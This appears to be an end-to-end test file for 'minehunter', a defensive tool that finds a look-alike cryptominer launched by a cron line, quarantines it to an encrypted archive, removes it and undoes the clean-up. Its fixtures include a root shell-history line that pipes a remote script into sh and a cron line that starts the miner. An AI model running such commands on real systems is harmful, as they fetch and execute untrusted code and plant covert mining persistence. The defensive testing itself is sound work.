// End-to-end: the look-alike miner plus a cron line that starts it, in a temporary root seen through a
// private mount namespace. `respond` alone changes nothing; `respond --apply --yes` leaves no miner
// process and no cron line, the files are in the AES zip that Debian's 7z opens with the password and
// extract byte-identical to the manifest, a rescan is clean, and `undo` restores every file.
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile, readdir } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import { ensureBuilt, processEvidence, type ReportJson } from '../helpers/cli.js';
import {
  acquireHostLock,
  buildLookalike,
  FAKE_WALLET,
  makeTempDir,
  startLookalike,
  waitForCpu,
  type Lookalike,
} from '../helpers/lookalike.js';
import { startStratumPool, type StratumPool } from '../helpers/stratum-pool.js';
import { hashTree, makeTestRoot, runCliInRoot, sha256File, type TestRoot } from '../helpers/respond-root.js';

const execFileP = promisify(execFile);

let release: (() => Promise<void>) | undefined;
let dir: string;
let binary: string;
let pool: StratumPool | undefined;
let miner: Lookalike | undefined;
let t: TestRoot;
let cronFile: string;
let cronLine: string;
let original: { cron: Buffer; binary: Buffer };
let reportFile: string;
let caseDir: string;

const BENIGN = '17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf';

beforeAll(async () => {
  await ensureBuilt();
  release = await acquireHostLock();
  dir = await makeTempDir('minehunter-respond-');
  binary = await buildLookalike(dir);
  const cacheDir = path.join(dir, '.cache');
  t = await makeTestRoot(path.join(dir, 'root'), [cacheDir]);
  pool = await startStratumPool();
  cronLine = `*/5 * * * * root ${binary} -o stratum+tcp://127.0.0.1:${pool.port} -u ${FAKE_WALLET} -p x`;
  cronFile = path.join(t.root, 'etc', 'cron.d', 'kworker');
  await writeFile(cronFile, `# system jobs\n${BENIGN}\n${cronLine}\n`, { mode: 0o644 });
  original = { cron: await readFile(cronFile), binary: await readFile(binary) };
  await mkdir(path.join(t.root, 'var', 'log'), { recursive: true });
  await writeFile(
    path.join(t.root, 'var', 'log', 'auth.log'),
    'Nov 26 09:00:01 victim-01 sshd[1]: Accepted password for root\n',
  );
  await mkdir(path.join(t.root, 'root'), { recursive: true });
  await writeFile(path.join(t.root, 'root', '.bash_history'), 'curl -s http://203.0.113.9/x.sh | sh\n');

  miner = startLookalike({ binary, poolPort: pool.port, seconds: 180 });
  await pool.waitForLogin((l) => l.login === FAKE_WALLET);
  await miner.running;
  await waitForCpu(miner.pid, 1);

  const scan = await runCliInRoot(t, ['scan', '--root', t.root, '--format', 'json', '--no-default-allow']);
  const report = JSON.parse(scan.stdout) as ReportJson;
  // Only our look-alike is acted on, whatever else this host runs, plus the cron line a persistence
  // detector would report (written here as that detector's finding would be).
  const mine = report.findings.filter((f) => processEvidence(f).some((e) => e.pid === miner!.pid));
  expect(mine.length, scan.stderr + scan.stdout.slice(0, 2000)).toBeGreaterThan(0);
  const persistence: Finding = {
    ruleId: 'cron-starts-miner',
    kind: 'open-source-miner',
    category: 'persistence',
    level: 'high',
    title: { en: 'Cron job starts a miner', 'zh-CN': '计划任务启动矿机' },
    message: { en: `${cronFile} runs ${binary}`, 'zh-CN': `${cronFile} 运行 ${binary}` },
    evidence: [{ type: 'file', path: '/etc/cron.d/kworker' }],
    tags: ['attack.t1053.003'],
    verify: { en: 'cat /etc/cron.d/kworker', 'zh-CN': 'cat /etc/cron.d/kworker' },
    remediate: [{ type: 'remove-cron-line', path: '/etc/cron.d/kworker', line: cronLine }],
    fingerprint: 'cron-starts-miner:/etc/cron.d/kworker',
    signals: [],
  };
  reportFile = path.join(dir, 'report.json');
  await writeFile(reportFile, JSON.stringify({ ...report, findings: [...mine, persistence] }));

  // What a responder saves on the host while the miner still runs: each quotes its argv, pool and
  // wallet. A rescan after the clean-up must not take any of them for a miner.
  caseDir = path.join(t.root, 'root', 'case');
  await mkdir(caseDir, { recursive: true });
  const save = async (args: string[]) => {
    const run = await runCliInRoot(t, args, 120_000);
    expect([0, 1], `${args.join(' ')}: ${run.stderr}`).toContain(run.code);
  };
  const scanArgs = ['scan', '--root', t.root, '--no-default-allow', '--fail-on', 'none'];
  await save([...scanArgs, '-o', path.join(caseDir, 'scan.txt'), '--lang', 'en']);
  await save([...scanArgs, '--format', 'json', '-o', path.join(caseDir, 'scan.json')]);
  await save(['evidence', '--root', t.root, '--no-default-allow', '-o', path.join(caseDir, 'evidence')]);
  for (const format of ['md', 'html', 'pdf', 'json'])
    await save([
      'report',
      '--from-report',
      path.join(caseDir, 'scan.json'),
      '--no-prompt',
      '--format',
      format,
      '-o',
      path.join(caseDir, `incident.${format}`),
    ]);
}, 400_000);

afterAll(async () => {
  await miner?.stop();
  await pool?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
  await release?.();
});

async function treeHash(): Promise<string> {
  return JSON.stringify({ root: await hashTree(t.root), cache: await hashTree(path.join(dir, '.cache')) });
}

describe('respond on a look-alike miner started by cron', () => {
  it('without --apply prints a numbered plan and changes nothing', async () => {
    const before = await treeHash();
    const run = await runCliInRoot(t, ['respond', '--report', reportFile, '--root', t.root, '--lang', 'en']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^\s+1\. Freeze process tree \d+/m);
    expect(run.stdout).toContain('quarantine archive');
    expect(run.stdout).toContain(`Remove one line from /etc/cron.d/kworker`);
    expect(await treeHash()).toBe(before);
    expect(existsSync(`/proc/${miner!.pid}`)).toBe(true);

    const json = await runCliInRoot(t, [
      'respond',
      '--report',
      reportFile,
      '--root',
      t.root,
      '--format',
      'json',
    ]);
    const plan = JSON.parse(json.stdout) as { plan: { n: number; kind: string }[] };
    const kinds = plan.plan.map((s) => s.kind);
    expect(kinds[0]).toBe('freeze');
    expect(kinds.indexOf('archive')).toBeLessThan(kinds.indexOf('kill'));
    expect(kinds.indexOf('kill')).toBeLessThan(kinds.indexOf('remove-persistence'));
    expect(kinds.at(-1)).toBe('rescan');
    expect(await treeHash()).toBe(before);
  });

  it('--apply without --yes and without a terminal refuses', async () => {
    const run = await runCliInRoot(t, ['respond', '--report', reportFile, '--root', t.root, '--apply']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('--yes');
    expect(existsSync(`/proc/${miner!.pid}`)).toBe(true);
  });

  it('evidence -o DIR gathers snapshot, findings, logs, histories and samples with a manifest of hashes', async () => {
    const before = await treeHash();
    const ev = path.join(dir, 'evidence');
    const run = await runCliInRoot(t, [
      'evidence',
      '--root',
      t.root,
      '-o',
      ev,
      '--no-default-allow',
      '--lang',
      'en',
    ]);
    expect(run.code, run.stderr + run.stdout).toBe(0);
    const manifest = JSON.parse(await readFile(path.join(ev, 'manifest.json'), 'utf8')) as {
      files: { name: string; sha256: string }[];
      samples: { files: { path: string; sha256: string }[] };
    };
    const names = manifest.files.map((f) => f.name);
    for (const n of [
      'snapshot.json',
      'report.json',
      'logs/var/log/auth.log',
      'histories/root/.bash_history',
      'samples.zip',
    ])
      expect(names).toContain(n);
    for (const f of manifest.files)
      expect(sha256File(await readFile(path.join(ev, f.name))), f.name).toBe(f.sha256);
    expect(manifest.samples.files).toContainEqual({ path: binary, sha256: sha256File(original.binary) });
    const x = await mkdtemp(path.join(os.tmpdir(), 'minehunter-7z-'));
    try {
      await execFileP('7z', ['x', '-pinfected', `-o${x}`, path.join(ev, 'samples.zip')]);
      expect(sha256File(await readFile(path.join(x, 'files', binary)))).toBe(sha256File(original.binary));
    } finally {
      await rm(x, { recursive: true, force: true });
    }
    // Gathering evidence changes nothing on the target, and the miner still runs.
    expect(await treeHash()).toBe(before);
    expect(existsSync(`/proc/${miner!.pid}`)).toBe(true);

    const report = await runCliInRoot(t, ['report', '--evidence', ev, '--format', 'json', '--no-prompt']);
    expect(report.code, report.stderr).toBe(0);
    const r = JSON.parse(report.stdout) as {
      samples: { archive: string; password: string };
      attachments: { name: string }[];
      incident: { firstSeen?: string; hostname?: string };
      loss: { cpuCoreHours: number; cpuSource: string };
    };
    expect(r.samples).toMatchObject({ archive: path.join(ev, 'samples.zip'), password: 'infected' });
    expect(r.attachments.map((a) => a.name)).toContain(path.join(ev, 'logs/var/log/auth.log'));
    expect(r.incident.firstSeen).toBeDefined();
    expect(r.incident.hostname).toBeTruthy();
    expect(r.loss.cpuSource).toBe('cpu-time');
    expect(r.loss.cpuCoreHours).toBeGreaterThan(0);
  }, 120_000);

  it('--apply --yes kills it, removes the cron line and the binary, archives both, and undo restores them', async () => {
    // The journal and the archive land on the host being cleaned, as they do for a responder.
    const out = path.join(caseDir, 'respond');
    const run = await runCliInRoot(t, [
      'respond',
      '--report',
      reportFile,
      '--root',
      t.root,
      '--apply',
      '--yes',
      '--out',
      out,
      '--lang',
      'en',
    ]);
    const context = `exit ${run.code}\n${run.stdout}\n${run.stderr}`;
    expect(run.stdout, context).not.toContain('[FAILED]');

    // No miner process: it was SIGKILLed (node reaps its child).
    await new Promise<void>((resolve) =>
      miner!.child.exitCode !== null || miner!.child.signalCode !== null
        ? resolve()
        : miner!.child.once('exit', () => resolve()),
    );
    expect(miner!.child.signalCode, context).toBe('SIGKILL');
    expect(existsSync(`/proc/${miner!.pid}`)).toBe(false);

    // No persistence: the cron line is gone, the benign one stays.
    const cron = await readFile(cronFile, 'utf8');
    expect(cron).not.toContain(binary);
    expect(cron).toContain(BENIGN);
    expect(existsSync(binary)).toBe(false);

    // The archive opens with Debian's 7z and the password, byte-identical to the manifest.
    const x = await mkdtemp(path.join(os.tmpdir(), 'minehunter-7z-'));
    try {
      await execFileP('7z', ['x', '-pinfected', `-o${x}`, path.join(out, 'quarantine.zip')]);
      const manifest = JSON.parse(await readFile(path.join(x, 'manifest.json'), 'utf8')) as {
        encryption: string;
        files: { path: string; entry: string; sha256: string; mode: string; findings: string[] }[];
      };
      expect(manifest.encryption).toBe('aes-256');
      const byPath = new Map(manifest.files.map((f) => [f.path, f]));
      expect([...byPath.keys()].sort()).toEqual(['/etc/cron.d/kworker', binary].sort());
      for (const f of manifest.files) {
        expect(sha256File(await readFile(path.join(x, f.entry))), f.path).toBe(f.sha256);
      }
      expect(byPath.get(binary)!.sha256).toBe(sha256File(original.binary));
      expect(byPath.get('/etc/cron.d/kworker')!.sha256).toBe(sha256File(original.cron));
      expect(byPath.get('/etc/cron.d/kworker')!.findings).toContain('cron-starts-miner:/etc/cron.d/kworker');
      const { stdout: listing } = await execFileP('7z', [
        'l',
        '-slt',
        '-pinfected',
        path.join(out, 'quarantine.zip'),
      ]);
      expect(listing).toContain('AES-256');
      await expect(execFileP('7z', ['t', '-pwrong', path.join(out, 'quarantine.zip')])).rejects.toThrow();
    } finally {
      await rm(x, { recursive: true, force: true });
    }

    // The journal: one line per step with times and hashes.
    const journal = (await readFile(path.join(out, 'journal.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(journal[0]!.type).toBe('header');
    const cronStep = journal.find(
      (s) => (s.action as { type?: string } | undefined)?.type === 'remove-cron-line',
    ) as {
      files: { before: string; after: string }[];
      startedAt: string;
      endedAt: string;
    };
    expect(cronStep.files[0]!.before).toBe(sha256File(original.cron));
    expect(cronStep.files[0]!.after).toBe(sha256File(Buffer.from(cron)));
    expect(Date.parse(cronStep.endedAt)).toBeGreaterThanOrEqual(Date.parse(cronStep.startedAt));
    const rescanStep = journal.find((s) => s.kind === 'rescan') as { status: string };
    expect(rescanStep.status).toBe('done');

    // A rescan of the root finds nothing about the look-alike.
    const rescan = await runCliInRoot(t, [
      'scan',
      '--root',
      t.root,
      '--format',
      'json',
      '--no-default-allow',
    ]);
    const again = JSON.parse(rescan.stdout) as ReportJson;
    const leftovers = again.findings.filter((f) =>
      processEvidence(f).some((e) => e.pid === miner!.pid || e.exe === binary),
    );
    expect(leftovers).toEqual([]);

    // The saved reports, evidence bundle, journal and archive are known as minehunter's own outputs:
    // seen (info), nothing at medium or above, and the default plan names none of them.
    const aboutCase = (f: Finding) =>
      f.evidence.some((e) => e.type === 'file' && e.path.startsWith('/root/case/'));
    const saved = again.findings.filter(aboutCase);
    expect(saved.length, JSON.stringify(again.findings.map((f) => f.message.en))).toBeGreaterThan(0);
    expect(saved.filter((f) => f.level !== 'info').map((f) => f.message.en)).toEqual([]);
    expect(saved.filter((f) => f.basis === 'own-output').length).toBeGreaterThan(0);
    const plan = await runCliInRoot(t, [
      'respond',
      '--root',
      t.root,
      '--format',
      'json',
      '--no-default-allow',
    ]);
    expect(plan.code, plan.stderr).toBe(0);
    expect(plan.stdout).not.toContain('/root/case/');

    // Undo: every file back byte-identical with its mode; the killed process is named as not restorable.
    const undo = await runCliInRoot(t, ['undo', path.join(out, 'journal.jsonl'), '--lang', 'en']);
    expect(undo.code, undo.stdout + undo.stderr).toBe(0);
    expect(undo.stdout).toMatch(/CANNOT RESTORE\] process \d+ .*was killed/);
    expect(sha256File(await readFile(cronFile))).toBe(sha256File(original.cron));
    expect(sha256File(await readFile(binary))).toBe(sha256File(original.binary));
    expect((await import('node:fs')).statSync(binary).mode & 0o777).toBe(0o755);
    expect(await readdir(path.join(t.root, 'etc', 'cron.d'))).toEqual(['kworker']);
  }, 180_000);
});
